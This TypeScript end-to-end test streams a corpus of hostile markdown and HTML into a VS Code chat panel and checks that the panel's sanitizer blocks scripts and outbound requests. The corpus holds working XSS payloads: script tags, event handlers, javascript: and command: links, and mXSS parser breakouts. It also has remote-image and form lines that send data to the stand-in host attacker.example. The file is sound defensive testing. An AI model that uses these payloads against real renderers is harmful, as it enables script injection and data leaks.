// Hostile markdown corpus (docs/reliability.md, category 1): 70+ hostile answers streamed into the REAL
// chat panel (VS Code web workbench in Chromium) in seeded random chunkings (the simulator's
// `[[echo]][[chunks:SEED:MAX]]` markers: pieces of 1-24 characters, up to 1/800 of a long answer).
// The cases go in a few answers of several cases each (a send and its answer cost about the same
// CPU for 100 characters as for 10 KB; one answer per case made this one of the dearest e2e
// files): short cases seven to an answer, each long one (over 19,200 characters) alone.
// Each case is wrapped in marker words, and its first marker must render as a paragraph of its
// own at the top level of the answer: a case that left markdown or HTML open (a fence, a list, a
// tag) would otherwise swallow the next one, which would then pass unseen as code. The cases that
// do that on purpose (the open fence, the huge lines and deep nesting, past whose caps the panel
// shows the whole answer as plain text) go alone; cases that define the same link reference go in
// different answers (the first definition would win).
// For every case: no script runs (dialog + console sentinels,
// no `__pwned` global in any frame), no request leaves for a non-local host (every request of the
// page, its frames and workers is recorded; non-local ones are aborted and fail the test), the
// case's marker words are in the rendered answer, no active or remote-loading markup reached the
// DOM (each element found is blamed on the case whose first marker precedes it), and the work is
// bounded by deterministic proxies (DOM depth and node count of the answer).
// No timing assertion: the longest main-thread task of the webview per answer (PerformanceObserver
// 'longtask') from Send until idle, each long task with what the browser blames for it, the
// longest task while the test fills the Message box with the answer's text (typing, not a flush),
// and send-to-idle times are printed only.
// Seed: MODELGATE_CORPUS_SEED (default 20261123). One workbench, a few conversations.
// MODELGATE_CORPUS_ONLY=<regex> runs only the cases whose name matches (for profiling; the suite
// in `npm test` runs them all).
import * as assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Frame, Request } from 'playwright-core';
import { repoRoot } from '../harness/paths';
import { PRICE_CARD, startGateway, type RunningGateway } from '../gateway/index';
import { useWorkbench, type Workbench } from './workbench';
import { fillField } from './typing';

const KEY = 'sk-e2e-corpus-5b19e0';
const SEED = Number(process.env.MODELGATE_CORPUS_SEED ?? 20261123);
const ONLY = process.env.MODELGATE_CORPUS_ONLY ? new RegExp(process.env.MODELGATE_CORPUS_ONLY, 'i') : undefined;
const P = `window.__pwned=(window.__pwned||0)+1;console.log('MG_PWNED');alert('MG_PWNED')`;
const EVIL = 'https://attacker.example';

interface Case {
  name: string;
  category: string;
  body: string;
}

const rep = (s: string, n: number) => s.repeat(n);
const words = (n: number) => Array.from({ length: n }, (_, i) => `word${i % 97}`).join(' ');

// Each case's body; the test wraps it in `zqNa` / `zqNb` marker words that must survive.
const CASES: Case[] = [
  // scripts
  { category: 'script', name: 'script tag', body: `<script>${P}</script>` },
  { category: 'script', name: 'remote script', body: `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>` },
  { category: 'script', name: 'script split over lines', body: `<scr\nipt>${P}</scr\nipt>` },
  { category: 'script', name: 'inline script in a paragraph', body: `text <script>${P}</script> more text` },
  { category: 'script', name: 'script in svg', body: `<svg xmlns="http://www.w3.org/2000/svg"><script>${P}</script></svg>` },
  { category: 'script', name: 'script in a fenced html block', body: '```html\n<script>' + P + '</script>\n```' },
  { category: 'script', name: 'script in an unclosed fence', body: '```js\n' + P + '\n' },
  // event handlers
  { category: 'handler', name: 'img onerror', body: `<img src=x onerror="${P}">` },
  { category: 'handler', name: 'body onload', body: `<body onload="${P}">` },
  { category: 'handler', name: 'div onmouseover', body: `<div onmouseover="${P}">hover me</div>` },
  { category: 'handler', name: 'details ontoggle', body: `<details open ontoggle="${P}"><summary>s</summary>d</details>` },
  { category: 'handler', name: 'input autofocus onfocus', body: `<input autofocus onfocus="${P}">` },
  { category: 'handler', name: 'video source onerror', body: `<video><source onerror="${P}"></video>` },
  { category: 'handler', name: 'anchor onclick', body: `<a href="#" onclick="${P}">click</a>` },
  { category: 'handler', name: 'svg onload', body: `<svg onload="${P}"/>` },
  // links
  { category: 'link', name: 'javascript: link', body: `[click me](javascript:${encodeURI(P)})` },
  { category: 'link', name: 'mixed-case javascript: link', body: `[click me](JaVaScRiPt:alert(1))` },
  { category: 'link', name: 'javascript: with a tab entity', body: `[click me](jav&#x09;ascript:alert(1))` },
  { category: 'link', name: 'javascript: entity-encoded', body: `[click me](&#106;avascript:alert(1))` },
  { category: 'link', name: 'javascript: autolink', body: `<javascript:alert(1)>` },
  { category: 'link', name: 'data:text/html link', body: `[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)` },
  { category: 'link', name: 'command: link', body: `[run](command:workbench.action.terminal.new)` },
  { category: 'link', name: 'command: link with arguments', body: `[set key](command:modelgate.setApiKey?%5B%22sk-evil%22%5D)` },
  { category: 'link', name: 'command: autolink', body: `<command:workbench.action.quit>` },
  { category: 'link', name: 'javascript: reference link', body: `[click][r]\n\n[r]: javascript:alert(1)` },
  { category: 'link', name: 'vbscript:, file: links', body: `[a](vbscript:msgbox) [b](file:///etc/passwd)` },
  { category: 'link', name: 'bare linkified schemes', body: `javascript:alert(1) command:workbench.action.quit www.attacker.example/leak` },
  // remote images in every form
  { category: 'remote image', name: 'inline image', body: `![leak](${EVIL}/i.png?q=SECRET)` },
  { category: 'remote image', name: 'protocol-relative image', body: `![leak](//attacker.example/i.png)` },
  { category: 'remote image', name: 'reference image', body: `![leak][r]\n\n[r]: ${EVIL}/r.png` },
  { category: 'remote image', name: 'image inside a link', body: `[![leak](${EVIL}/i.png)](${EVIL}/)` },
  { category: 'remote image', name: 'image by IP', body: `![leak](http://198.51.100.7/ip.png)` },
  { category: 'remote image', name: '<img src>', body: `<img src="${EVIL}/x.png">` },
  { category: 'remote image', name: '<picture><source srcset>', body: `<picture><source srcset="${EVIL}/p.png"><img src="${EVIL}/q.png"></picture>` },
  { category: 'remote image', name: 'svg <image href>', body: `<svg><image href="${EVIL}/s.png"/><use xlink:href="${EVIL}/u.svg#a"/></svg>` },
  { category: 'remote image', name: 'img srcset', body: `<img srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x">` },
  { category: 'remote image', name: 'CSS url() in style attribute', body: `<div style="background:url(${EVIL}/css.png)">styled</div>` },
  {
    category: 'remote image',
    name: 'CSS @import and url() in <style>',
    body: `<style>@import url(${EVIL}/x.css); body{background:url(${EVIL}/b.png)}</style>`,
  },
  { category: 'remote image', name: '<link rel=stylesheet>', body: `<link rel=stylesheet href=${EVIL}/s.css>` },
  { category: 'remote image', name: '<object>/<embed>', body: `<object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e.swf">` },
  { category: 'remote image', name: 'video poster / audio src', body: `<video poster="${EVIL}/p.png"></video><audio src="${EVIL}/a.mp3"></audio>` },
  {
    category: 'remote image',
    name: 'data: svg image with a script',
    body: `![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)`,
  },
  // base, meta
  { category: 'base/meta', name: '<base href> then a relative image', body: `<base href="${EVIL}/">\n\n![rel](rel.png) [rel](page.html)` },
  { category: 'base/meta', name: '<meta refresh>', body: `<meta http-equiv="refresh" content="0;url=${EVIL}/">` },
  { category: 'base/meta', name: '<meta> CSP override', body: `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">` },
  // iframes, forms
  { category: 'iframe/form', name: 'iframe src', body: `<iframe src="${EVIL}/"></iframe>` },
  { category: 'iframe/form', name: 'iframe srcdoc', body: `<iframe srcdoc="<script>${P.replace(/'/g, '&#39;')}</script>"></iframe>` },
  { category: 'iframe/form', name: 'frameset', body: `<frameset><frame src="${EVIL}/f"></frameset>` },
  { category: 'iframe/form', name: 'form with action', body: `<form action="${EVIL}/" method=post><input name=k value=v><button>go</button></form>` },
  { category: 'iframe/form', name: 'button formaction', body: `<button formaction="javascript:alert(1)">x</button>` },
  // sanitizer-mutation (mXSS)
  { category: 'mXSS', name: 'noscript title breakout', body: `<noscript><p title="</noscript><img src=x onerror=alert(1)>">` },
  { category: 'mXSS', name: 'svg style breakout', body: `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">` },
  {
    category: 'mXSS',
    name: 'math mglyph namespace confusion',
    body: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`,
  },
  { category: 'mXSS', name: 'nested form namespace confusion', body: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>` },
  { category: 'mXSS', name: 'entity-encoded javascript href', body: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>` },
  { category: 'mXSS', name: 'comment tricks', body: `<!--><img src=x onerror=alert(1)>-->\n\n<!-- --!><img src=x onerror=alert(2)> -->` },
  {
    category: 'mXSS',
    name: 'xmp/textarea/template raw text',
    body: `<xmp><img src=x onerror=alert(1)></xmp><textarea><img src=x onerror=alert(2)></textarea><template><img src=x onerror=alert(3)></template>`,
  },
  { category: 'mXSS', name: 'unclosed code span around html', body: '`<img src=x onerror=alert(1)> and ``<script>x</script>`' },
  { category: 'mXSS', name: 'html in a link title and text', body: `[<img src=x onerror=alert(1)>](https://example.com "<script>alert(2)</script>")` },
  { category: 'mXSS', name: 'html in a table cell', body: `| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(2)</script> |` },
  // bidi, invisible characters
  { category: 'bidi', name: 'RLO override', body: `file \u202Egnp.exe\u202C here` },
  { category: 'bidi', name: 'RLO in link text', body: `[safe\u202E.moc.elpmaxe-rekcatta//:sptth\u202C](${EVIL}/)` },
  { category: 'bidi', name: 'isolates and zero-width', body: `a\u2066b\u2067c\u2068d\u2069e\u200Bf\u200Dg\uFEFFh\u00ADi` },
  { category: 'bidi', name: 'bidi inside code', body: '```js\nconst admin = false; /*\u202E } \u2066if (admin)\u2069 \u2066 begin admins */\n```' },
  // huge lines
  { category: 'huge line', name: '200 KB line of words', body: words(25_000) },
  { category: 'huge line', name: '100 KB word without spaces', body: rep('a', 100_000) },
  { category: 'huge line', name: '60 KB of emphasis delimiters', body: rep('*_', 30_000) },
  { category: 'huge line', name: '3000-column table', body: `|${rep(' a |', 3000)}\n|${rep('---|', 3000)}\n|${rep(' b |', 3000)}` },
  { category: 'huge line', name: '50 KB of backticks and brackets', body: rep('`[', 25_000) },
  // deep nesting of blocks and inline markup
  { category: 'nesting', name: 'block quotes x500', body: rep('> ', 500) + 'deep quote' },
  { category: 'nesting', name: 'lists x120', body: Array.from({ length: 120 }, (_, i) => `${'  '.repeat(i)}- item${i}`).join('\n') },
  { category: 'nesting', name: 'quotes and lists x200', body: Array.from({ length: 200 }, (_, i) => `${rep('> ', i)}- q${i}`).join('\n') },
  { category: 'nesting', name: 'emphasis x2000', body: rep('*', 2000) + 'deep' + rep('*', 2000) },
  { category: 'nesting', name: 'strong and strike x1500', body: rep('**~~', 1500) + 'deep' + rep('~~**', 1500) },
  { category: 'nesting', name: 'links x3000', body: rep('[', 3000) + 'deep' + rep('](https://example.com)', 3000) },
  { category: 'nesting', name: 'emphasis x300 (short)', body: rep('_', 300) + 'deep' + rep('_', 300) },
  { category: 'nesting', name: 'html divs x5000 (as text)', body: rep('<div>', 5000) + 'deep' + rep('</div>', 5000) },
];

/** Cases whose answer is photographed (what a user sees of the caps: test-results/screenshots/corpus-*.png). */
const PHOTOGRAPHED = new Set(['lists x120', 'block quotes x500', '200 KB line of words']);

/**
 * Cases that go alone in their answer: the fence left open on purpose, and every huge line and
 * deep nesting (past its caps the panel shows the whole answer as plain text, the cases beside it
 * too: the top-level check below found that).
 */
const alone = (c: Case) => c.name === 'script in an unclosed fence' || c.category === 'huge line' || c.category === 'nesting';
/** A case longer than this (with its markers) goes in an answer of its own, chunked coarser. */
const LONG_CASE_CHARS = 19_200;
/** Short cases per answer. */
const SHORT_PER_ANSWER = 7;

interface Placed {
  /** index in CASES: the marker words are zq<i>a and zq<i>b */
  i: number;
  c: Case;
  text: string;
}

const caseText = (i: number, c: Case) => `zq${i}a\n\n${c.body}\n\nzq${i}b`;
const referenceLabels = (body: string) => [...body.matchAll(/^\[([^\]]+)\]:/gm)].map((m) => m[1]!.toLowerCase());

/**
 * The answers to stream: the short cases seven to an answer in the corpus's order (two that define
 * the same link reference never share one), then each case that goes alone and each long case.
 */
function answersOf(cases: readonly Case[], only: RegExp | undefined): Placed[][] {
  const placed = cases.map((c, i) => ({ i, c, text: caseText(i, c) })).filter((p) => !only || only.test(p.c.name));
  const grouped = placed.filter((p) => p.text.length <= LONG_CASE_CHARS && !alone(p.c));
  const answers: Placed[][] = [];
  let current: Placed[] = [];
  for (const p of grouped) {
    const labels = new Set(current.flatMap((q) => referenceLabels(q.c.body)));
    if (current.length >= SHORT_PER_ANSWER || referenceLabels(p.c.body).some((l) => labels.has(l))) {
      answers.push(current);
      current = [];
    }
    current.push(p);
  }
  if (current.length) answers.push(current);
  for (const p of placed.filter((q) => !grouped.includes(q))) answers.push([p]);
  return answers;
}

const isLocalHost = (host: string) => /^(127\.\d+\.\d+\.\d+|localhost|\[::1\]|::1)$/i.test(host);

/** A request is "leaving" when it is http(s)/ws(s) to a host other than this machine. */
function leaves(url: string): boolean {
  try {
    const u = new URL(url);
    if (!/^(https?|wss?):$/.test(u.protocol)) return false;
    return !isLocalHost(u.hostname);
  } catch {
    return false;
  }
}

// In the chat frame: what reached the DOM of the last answer. Runs in the page.
interface AnswerScan {
  text: string;
  nodes: number;
  depth: number;
  /** active or remote-loading markup, each with the case whose first marker precedes it */
  bad: { i: number; what: string }[];
  /** cases whose first marker is not a paragraph of its own at the top level of the answer */
  notTopLevel: { i: number; where: string }[];
}

describe('e2e hostile markdown corpus: streamed into the real chat panel', function () {
  this.timeout(1_200_000);
  let gw: RunningGateway;
  const dialogs: string[] = [];
  const pwnedConsole: string[] = [];
  const leaving: string[] = [];
  let recording = false;

  before(async () => {
    gw = await startGateway({ keys: { [KEY]: { balance: 1000 } } });
  });

  const fixture = useWorkbench(() => ({
    settings: {
      'modelgate.baseUrl': gw.baseUrl,
      'modelgate.models': { 'flagship-text': { prices: { default: PRICE_CARD.chat['flagship-text']!.stable } } },
      'workbench.colorTheme': 'Default Light Modern',
    },
    viewport: { width: 1280, height: 860 },
  }));

  after(async () => {
    await gw?.close();
  });

  let wb: Workbench;
  let chat: Frame;
  const message = () => chat.getByRole('textbox', { name: 'Message' });
  const button = (name: string) => chat.getByRole('button', { name, exact: true });

  async function waitIdle(): Promise<void> {
    // The huge lines stream at the simulator's pace: 28-73 s from send to idle were seen, and one
    // run at load 15-17 passed 120 s. The bound is against a hang, not a speed check.
    await button('Stop').waitFor({ state: 'hidden', timeout: 300_000 });
    await button('Send').waitFor({ state: 'visible', timeout: 30_000 });
  }

  // Opens the panel, takes a key, and watches every request, dialog and console message.
  before(async () => {
    wb = fixture.get();
    const context = wb.page.context();
    context.on('request', (r: Request) => {
      if (recording && leaves(r.url())) leaving.push(`${r.method()} ${r.url()}`);
    });
    // Nothing leaves: a non-local request is aborted (and recorded above).
    await context.route(
      (url) => leaves(url.toString()),
      (route) => route.abort('blockedbyclient'),
    );
    wb.page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    wb.page.on('console', (m) => {
      if (m.text().includes('MG_PWNED')) pwnedConsole.push(m.text());
    });
    await wb.runCommand('Modelgate: Open Chat');
    chat = await wb.webviewFrame('[role="log"]', { timeoutMs: 60_000 });
    await message().waitFor({ state: 'visible' });
    await wb.setKey(KEY);
  });

  it(`holds ${CASES.length} hostile cases streamed in seeded random chunkings (seed ${SEED})`, async () => {
    assert.ok(CASES.length >= 60);
    // Long tasks of the webview's main thread, recorded for the printout (never asserted).
    // Each with its start (ms since the send) and what the browser blames: "self" is the panel's
    // own frame; an ancestor is the workbench around it (same event loop when same-origin).
    await chat.evaluate(() => {
      const w = window as unknown as { __mgLong: number[]; __mgTasks: string[]; __mgSent: number };
      w.__mgLong = [];
      w.__mgTasks = [];
      w.__mgSent = 0;
      new PerformanceObserver((list) => {
        for (const e of list.getEntries()) {
          // entries arrive after the task: one that began before the current mark (the Message
          // box being filled) belongs to the typing, not to what follows
          if (e.startTime < w.__mgSent) continue;
          w.__mgLong.push(e.duration);
          const a = (e as PerformanceEntry & { attribution?: { name: string; containerType: string }[] }).attribution?.[0];
          w.__mgTasks.push(
            `${e.duration.toFixed(0)} ms at +${(e.startTime - w.__mgSent).toFixed(0)} (${a ? `${a.name}${a.containerType ? `/${a.containerType}` : ''}` : '?'})`,
          );
        }
      }).observe({ type: 'longtask', buffered: false });
    });
    recording = true;
    const failures: string[] = [];
    const rows: string[] = [];
    const perCategory = new Map<string, { tried: number; held: number }>();
    const longest: number[] = [];

    const details: string[] = [];
    const answers = answersOf(CASES, ONLY);
    let inConversation = 0;
    for (const [n, answer] of answers.entries()) {
      if (inConversation >= 25) {
        // A few conversations, so no transcript grows without end.
        await wb.page
          .locator('.part.sidebar .title-actions')
          .getByRole('button', { name: /^New Chat/ })
          .click(); // the view title's New chat (the panel has no second one)
        await chat.waitForFunction(() => document.querySelectorAll('article[aria-label="Assistant"]').length === 0, undefined, {
          timeout: 30_000,
          polling: 100,
        });
        inConversation = 0;
      }
      inConversation += answer.length;
      const seed = (SEED + answer[0]!.i * 7919) >>> 0;
      const text = answer.map((p) => p.text).join('\n\n');
      const names = answer.map((p) => `#${p.i}`).join(' ');
      const answersBefore = await chat.locator('article[aria-label="Assistant"]').count();
      await chat.evaluate(() => {
        const w = window as unknown as { __mgLong: number[]; __mgTasks: string[]; __mgSent: number };
        w.__mgLong.length = 0;
        w.__mgTasks.length = 0;
        w.__mgSent = performance.now();
      });
      const sent = Date.now();
      // Pieces of 1-24 characters; a long answer in pieces of up to 1/800 of its length, so that every
      // answer streams in at most ~1,600 events (the 200 KB line took 16,000 events of 1-24
      // characters, most of the corpus's time, with nothing hostile between word 50 and word 25,000).
      const maxPiece = Math.max(24, Math.ceil(text.length / 800));
      await fillField(message(), `[[echo]][[chunks:${seed}:${maxPiece}]]\n${text}`);
      // Typing the cases into the Message box is the test's input, not a flush of the answer: its
      // long tasks (the box lays out up to 200 KB of text) are printed in their own column.
      const typing = await chat.evaluate(async () => {
        const w = window as unknown as { __mgLong: number[]; __mgTasks: string[]; __mgSent: number };
        // let the observer deliver the fill's entries first
        await new Promise((r) => setTimeout(r, 200));
        const longest = w.__mgLong.length ? Math.max(...w.__mgLong) : 0;
        w.__mgLong.length = 0;
        w.__mgTasks.length = 0;
        w.__mgSent = performance.now();
        return longest;
      });
      await button('Send').click();
      await chat.waitForFunction((k) => document.querySelectorAll('article[aria-label="Assistant"]').length > k, answersBefore, {
        timeout: 60_000,
        polling: 100,
      });
      await waitIdle();
      const wall = Date.now() - sent;
      const long = await chat.evaluate(() => [...(window as unknown as { __mgLong: number[] }).__mgLong]);
      const tasks = await chat.evaluate(() => [...(window as unknown as { __mgTasks: string[] }).__mgTasks]);
      if (tasks.length) details.push(`  answer ${String(n).padStart(2)} (${names}): ${tasks.join(', ')}`);
      const scan: AnswerScan = await chat.evaluate(
        (indices) => {
          const a = [...document.querySelectorAll('article[aria-label="Assistant"]')].pop()!;
          // The first marker of each case, in document order: [text node, case index].
          const firsts: [Text, number][] = [];
          const notTopLevel: { i: number; where: string }[] = [];
          const walker = document.createTreeWalker(a, NodeFilter.SHOW_TEXT);
          for (let t = walker.nextNode() as Text | null; t; t = walker.nextNode() as Text | null) {
            for (const m of (t.data ?? '').matchAll(/zq(\d+)a/g)) {
              const i = Number(m[1]);
              if (!indices.includes(i) || firsts.some(([, k]) => k === i)) continue;
              firsts.push([t, i]);
              const p = t.parentElement;
              // A paragraph holding only the marker, with no block, inline or raw-text element around it.
              const around = p?.parentElement?.closest('pre,code,blockquote,li,ul,ol,table,td,th,details,a,em,strong,del,h1,h2,h3,h4,h5,h6,p');
              if (!p || p.tagName !== 'P' || p.textContent?.trim() !== `zq${i}a` || (around && a.contains(around)))
                notTopLevel.push({ i, where: `in <${p?.tagName.toLowerCase() ?? '?'}>${around ? ` inside <${around.tagName.toLowerCase()}>` : ''}` });
            }
          }
          const owner = (el: Node): number => {
            let i = -1;
            for (const [t, k] of firsts) if (t.compareDocumentPosition(el) & Node.DOCUMENT_POSITION_FOLLOWING) i = k;
            return i;
          };
          const bad: { i: number; what: string }[] = [];
          const forbidden =
            'script,iframe,frame,frameset,object,embed,base,meta,link,style,form,input,textarea,select,svg,math,video,audio,source,picture,img,image,use,template,noscript,xmp';
          // The panel's own icons are inline <svg> built with createElementNS inside its buttons.
          for (const el of a.querySelectorAll(forbidden))
            if (!(el.tagName.toLowerCase() === 'svg' && el.closest('button'))) bad.push({ i: owner(el), what: `<${el.tagName.toLowerCase()}>` });
          let nodes = 0;
          let depth = 0;
          const walk = (node: Node, d: number) => {
            nodes++;
            if (d > depth) depth = d;
            for (const k of node.childNodes) walk(k, d + 1);
          };
          walk(a, 0);
          for (const el of a.querySelectorAll('*')) {
            if (el.closest('button svg')) continue;
            for (const attr of el.attributes) {
              const name = attr.name.toLowerCase();
              const value = attr.value.replace(/[\u0000-\u0020\u007f-\u00a0]/g, '').toLowerCase();
              const flag = (what: string) => bad.push({ i: owner(el), what });
              if (name.startsWith('on')) flag(`${name}= on <${el.tagName.toLowerCase()}>`);
              if (['src', 'srcset', 'poster', 'background', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc'].includes(name))
                flag(`${name}="${attr.value.slice(0, 60)}"`);
              if (name === 'style' && /url\(|@import|expression\(/.test(value)) flag(`style="${attr.value.slice(0, 60)}"`);
              if (name === 'href' && /^(javascript|vbscript|data|command):/.test(value)) flag(`href="${attr.value.slice(0, 60)}"`);
            }
          }
          return { text: a.textContent ?? '', nodes, depth, bad, notTopLevel };
        },
        answer.map((p) => p.i),
      );
      for (const p of answer.filter((q) => PHOTOGRAPHED.has(q.c.name))) {
        const shots = join(repoRoot(), 'test-results', 'screenshots');
        mkdirSync(shots, { recursive: true });
        await chat.evaluate((marker) => {
          const a = [...document.querySelectorAll('article[aria-label="Assistant"]')].pop()!;
          const p = [...a.querySelectorAll('p')].find((e) => e.textContent?.trim() === marker) ?? a;
          p.scrollIntoView({ block: 'start' });
        }, `zq${p.i}a`);
        await wb.page.locator('.part.sidebar').screenshot({ path: join(shots, `corpus-${p.c.name.replace(/[^a-z0-9]+/gi, '-')}.png`) });
      }
      // back to the bottom, so the log is pinned again for the next answer (as a user would leave it)
      await chat.evaluate(() => {
        const log = document.querySelector('[role="log"]')!;
        log.scrollTop = log.scrollHeight;
      });
      const globals = await Promise.all(
        wb.page.frames().map((f) => f.evaluate(() => (window as unknown as { __pwned?: number }).__pwned).catch(() => undefined)),
      );
      // What concerns the whole answer: a script ran, a dialog opened, a request left (each names
      // what it saw), or the answer's DOM is out of bounds; blamed on every case of the answer.
      const shared: string[] = [];
      // Bounded work, deterministic proxies: depth within the caps (inline 16 + block 48 + the
      // answer's own wrappers), and no more nodes than source characters (+ the answer chrome).
      if (scan.depth > 48 + 16 + 16) shared.push(`DOM depth ${scan.depth}`);
      if (scan.nodes > text.length + 200) shared.push(`${scan.nodes} DOM nodes for ${text.length} characters`);
      if (globals.some((g) => g !== undefined)) shared.push('a script set window.__pwned');
      if (dialogs.length) shared.push(`dialogs: ${dialogs.join(' | ')}`);
      if (pwnedConsole.length) shared.push(`console: ${pwnedConsole.join(' | ')}`);
      if (leaving.length) shared.push(`requests left: ${leaving.join(' | ')}`);
      dialogs.length = 0;
      pwnedConsole.length = 0;
      leaving.length = 0;
      const orphans = scan.bad.filter((b) => !answer.some((p) => p.i === b.i));
      if (orphans.length) shared.push(`active/remote markup before the first case's marker: ${orphans.map((b) => b.what).join(', ')}`);

      const maxLong = long.length ? Math.max(...long) : 0;
      longest.push(maxLong);
      for (const p of answer) {
        const problems = [...shared];
        const bad = scan.bad.filter((b) => b.i === p.i).map((b) => b.what);
        if (bad.length) problems.push(`active/remote markup in the DOM: ${bad.slice(0, 5).join(', ')}`);
        // Alone in its answer, a case has nothing before it to hide in (and past the caps its own text is plain).
        const misplaced = answer.length > 1 ? scan.notTopLevel.find((t) => t.i === p.i) : undefined;
        if (misplaced) problems.push(`its first marker is not a top-level paragraph (${misplaced.where}): the case before it left something open`);
        const [begin, end] = [`zq${p.i}a`, `zq${p.i}b`];
        if (!scan.text.includes(begin) || !scan.text.includes(end))
          problems.push(`marker words lost (${begin}: ${scan.text.includes(begin)}, ${end}: ${scan.text.includes(end)})`);
        const cat = perCategory.get(p.c.category) ?? { tried: 0, held: 0 };
        cat.tried++;
        if (!problems.length) cat.held++;
        perCategory.set(p.c.category, cat);
        if (problems.length) failures.push(`#${p.i} ${p.c.category} / ${p.c.name} (answer ${n}): ${problems.join('; ')}`);
        rows.push(
          `  #${String(p.i).padStart(2)} ${(p.c.category + ' / ' + p.c.name).padEnd(58).slice(0, 58)} ${String(p.text.length).padStart(7)} ch  answer ${n}${problems.length ? '  FAIL' : ''}`,
        );
      }
      rows.push(
        `    answer ${String(n).padStart(2)}: ${answer.length} case(s), ${String(text.length).padStart(7)} ch  depth ${String(scan.depth).padStart(3)}  nodes ${String(scan.nodes).padStart(6)}  long tasks ${String(long.length).padStart(2)} max ${maxLong.toFixed(0).padStart(5)} ms  typing ${typing.toFixed(0).padStart(4)} ms  send->idle ${wall} ms`,
      );
    }
    recording = false;

    console.log(
      `[corpus] seed ${SEED}; per case: characters and its answer; per answer: characters, DOM depth/nodes, webview long tasks (> 50 ms main thread) from Send to idle, the longest task while the Message box was filled with the answer's cases, send->idle wall time (printed, never asserted)`,
    );
    for (const r of rows) console.log(r);
    console.log('[corpus] long tasks per answer after Send: duration, start after Send, blamed frame (iframe: the panel; window: the workbench around it)');
    for (const d of details) console.log(d);
    const sorted = [...longest].sort((a, b) => a - b);
    const over = longest.filter((x) => x > 50).length;
    console.log(
      `[corpus] longest webview task per answer: median ${sorted[Math.floor(sorted.length / 2)]!.toFixed(0)} ms, p90 ${sorted[Math.floor(sorted.length * 0.9)]!.toFixed(0)} ms, max ${sorted[sorted.length - 1]!.toFixed(0)} ms; answers with a task > 50 ms: ${over}/${longest.length}`,
    );
    for (const [cat, v] of perCategory) console.log(`[corpus] ${cat.padEnd(14)} ${v.held}/${v.tried} held`);
    const held = [...perCategory.values()].reduce((n, v) => n + v.held, 0);
    const tried = [...perCategory.values()].reduce((n, v) => n + v.tried, 0);
    console.log(`[corpus] total ${held}/${tried} held in ${answers.length} answers${ONLY ? ` (only ${ONLY})` : ''}`);

    const dir = join(repoRoot(), 'test-results', 'screenshots');
    mkdirSync(dir, { recursive: true });
    await wb.page.locator('.part.sidebar').screenshot({ path: join(dir, 'hostile-corpus.png') });

    assert.ok(ONLY || tried === CASES.length);
    assert.deepEqual(failures, [], `cases that did not hold:\n${failures.join('\n')}`);
  });
});
